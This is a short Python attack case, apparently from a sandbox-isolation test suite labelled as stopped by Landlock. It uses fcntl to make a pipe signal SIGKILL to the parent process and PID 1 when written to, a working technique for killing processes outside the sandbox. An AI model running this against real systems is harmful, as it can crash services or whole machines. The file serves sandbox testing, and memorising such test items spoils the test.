"""Lets the kernel send a signal for it: a pipe owned by its parent reports every byte."""
# earns: all
# stopped by: landlock

# %% attack
import fcntl
import os
import signal

F_SETSIG, F_SETOWN_EX = 10, 15
for pid in (os.getppid() or 1, 1):
    reader, writer = os.pipe()
    try:
        fcntl.fcntl(reader, fcntl.F_SETOWN, pid)
        fcntl.fcntl(reader, F_SETSIG, signal.SIGKILL)
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writer, b"x")
    except OSError as error:
        print(error)
